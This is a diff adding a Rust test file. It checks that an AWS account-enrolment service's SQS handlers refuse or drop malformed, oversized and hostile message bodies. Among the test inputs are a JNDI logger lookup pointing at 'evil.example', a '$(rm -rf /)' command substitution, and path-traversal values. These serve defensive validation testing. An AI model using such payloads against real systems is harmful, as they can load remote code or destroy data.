@@ -1,0 +1,134 @@
+//! Bodies that are no event and no message, on every queue.
+
+use serde_json::{Value, json};
+
+use crate::trial::{End, Queue, alone, assert_unchanged, at_rest, beside_a_good_one, everything};
+
+/// SQS takes no longer body.
+const LONGEST_BODY: usize = 1_048_576;
+
+const NOTHING_OF_OURS: End = End::Dropped("neither an EventBridge event nor a message of the enroller");
+
+/// What a body becomes on the queues of events, and on that of backfills.
+fn bodies() -> Vec<(&'static str, String, End, End)> {
+    let refused = |case, body: &str, reason| (case, body.to_owned(), End::Refused(reason), End::Refused(reason));
+    let long = |piece: &str| piece.repeat(LONGEST_BODY / piece.len());
+    let no_request = End::Refused("expected an object");
+    let scalar = |case, body: &str| (case, body.to_owned(), NOTHING_OF_OURS, no_request.clone());
+    vec![
+        refused("blank", " \n\t", "the body is not JSON: EOF"),
+        refused("half an object", "{", "the body is not JSON: EOF"),
+        refused("1 MiB of lists in lists", &long("["), "the body is not JSON: recursion limit"),
+        refused("1 MiB of objects in objects", &long("{\"detail\":"), "the body is not JSON: recursion limit"),
+        refused("1 MiB of a text without an end", &long("\"a"), "the body is not JSON"),
+        refused("two objects", "{}{}", "the body is not JSON: trailing characters"),
+        refused("a byte order mark", "\u{feff}{}", "the body is not JSON: expected value"),
+        refused("half a surrogate pair", r#"{"source":"aws.ec2\ud800"}"#, "the body is not JSON"),
+        refused("the other half", r#"{"source":"aws.ec2\udfff"}"#, "the body is not JSON: lone"),
+        refused("a number beyond all", r#"{"version":1e999}"#, "the body is not JSON: number out of range"),
+        refused("NaN", r#"{"version":NaN}"#, "the body is not JSON"),
+        refused("a lookup of a logger", "${jndi:ldap://evil.example/a}", "the body is not JSON: expected value"),
+        refused("a shell command", "$(rm -rf /)", "the body is not JSON: expected value"),
+        refused("XML", "<?xml version=\"1.0\"?><a/>", "the body is not JSON: expected value"),
+        scalar("a text", "\"CreateVpc\""),
+        scalar("1 MiB of text", &format!("\"{}\"", "a".repeat(LONGEST_BODY - 2))),
+        scalar("a number", "12"),
+        scalar("a truth", "true"),
+        scalar("an empty list", "[]"),
+        scalar("a list of events", r#"[{"source":"aws.ec2"}]"#),
+        (
+            "1 MiB of nesting in a notification",
+            json!({"Type": "Notification", "Message": "[".repeat(LONGEST_BODY - 100)}).to_string(),
+            End::Refused("the body is not JSON: recursion limit"),
+            End::Refused("no such field"),
+        ),
+        refused("an unknown kind", r#"{"kind":"lunch-request","version":1}"#, "\"lunch-request\" is not a kind"),
+        refused("a kind of 1 MiB", &kind_of_a_mebibyte(), "is not a kind of message"),
+        refused("a version of later", r#"{"kind":"sync-request","version":2}"#, "version 2 cannot be read"),
+        refused("a version that is a text", r#"{"kind":"sync-request","version":"1"}"#, "version \"1\" cannot be read"),
+        refused("a version of 2^64", r#"{"kind":"sync-request","version":18446744073709551616}"#, "cannot be read"),
+        refused("no version", r#"{"kind":"grant-request","account":"111122223333"}"#, "version null"),
+    ]
+}
+
+fn kind_of_a_mebibyte() -> String {
+    let rest = json!({"kind": "", "version": 1}).to_string().len();
+    json!({"kind": "k".repeat(LONGEST_BODY - rest), "version": 1}).to_string()
+}
+
+#[tokio::test]
+async fn a_body_that_says_nothing_makes_no_call_and_ends_where_a_person_looks() {
+    let lab = at_rest().await;
+    for (case, body, on_events, on_backfill) in bodies() {
+        for queue in Queue::ALL {
+            let end = if queue == Queue::Backfill { &on_backfill } else { &on_events };
+            alone(&lab, queue, case, &body, end).await;
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_body_that_says_nothing_holds_no_other_of_its_batch_up() {
+    let lab = at_rest().await;
+    for (case, body, _, _) in bodies() {
+        for queue in Queue::ALL {
+            beside_a_good_one(&lab, queue, case, &body).await;
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_request_for_a_backfill_that_is_wrong_in_any_part_queues_nothing() {
+    let lab = at_rest().await;
+    for (case, body, reason) in [
+        ("a selector of a later release", r#"{"tags":["a"]}"#, "no such field"),
+        ("an account that is a number", r#"{"accounts":[111122223333]}"#, "expected text in quotes"),
+        ("an account with a space", r#"{"accounts":["11112222333 "]}"#, "expected 12 digits"),
+        ("an account in other digits", r#"{"accounts":["１１１１２２２２３３３３"]}"#, "expected 12 digits"),
+        ("a unit that is a path", r#"{"organizational_units":["../ou-ab12-cdefghij"]}"#, "expected"),
+        ("a Region that is a path", r#"{"regions":["eu-west-1/../.."]}"#, "expected a code such as eu-west-1"),
+        ("a Region that is not enrolled", r#"{"regions":["sa-east-1"]}"#, "sa-east-1"),
+        ("a flag that is a text", r#"{"dry_run":"false"}"#, "expected true or false"),
+        ("an event of another service", r#"{"detail-type":"x","source":"aws.s3"}"#, "is not a schedule's"),
+        ("a grant request", r#"{"kind":"grant-request","version":1,"account":"111122223333"}"#, "another function"),
+        (
+            "a continuation after nobody",
+            r#"{"kind":"backfill-request","version":1,"request":{},"run_id":"r","after":"*"}"#,
+            "\"*\" is not an account id",
+        ),
+    ] {
+        alone(&lab, Queue::Backfill, case, body, &End::Refused(reason)).await;
+    }
+    let many: Vec<String> = (0..50_000).map(|number| format!("\u{1b}[2J{number}")).collect();
+    let body = json!({ "accounts": many }).to_string();
+    alone(&lab, Queue::Backfill, "50,000 ids that are none", &body, &End::Refused("expected 12 digits")).await;
+}
+
+#[tokio::test]
+async fn a_continuation_of_a_backfill_is_nobody_elses_work() {
+    let lab = at_rest().await;
+    let body = json!({"kind": "backfill-request", "version": 1, "request": {}, "run_id": "r", "after": "000000000000"});
+    for queue in [Queue::Enrollments, Queue::Grants] {
+        let end = End::Refused("belongs on the queue of backfill");
+        alone(&lab, queue, "a continuation", &body.to_string(), &end).await;
+    }
+}
+
+#[tokio::test]
+async fn a_record_without_a_body_is_answered_for_like_every_other() {
+    let lab = at_rest().await;
+    let before = everything(&lab);
+    for body in [Value::Null, json!("")] {
+        let record = json!({"messageId": "m-1", "receiptHandle": "none", "body": body, "eventSource": "aws:sqs",
+            "attributes": {"ApproximateReceiveCount": "not a number"}});
+        let event = lab.invocation(json!({ "Records": [record] }));
+        for answer in [
+            lab.enroll(event.clone()).await.unwrap(),
+            lab.onboard(event.clone()).await.unwrap(),
+            lab.sweep(event.payload.clone()).await.unwrap(),
+        ] {
+            assert_eq!(answer, json!({"batchItemFailures": [{"itemIdentifier": "m-1"}]}), "{body}");
+        }
+    }
+    assert_unchanged(&lab, &before, "no body");
+}
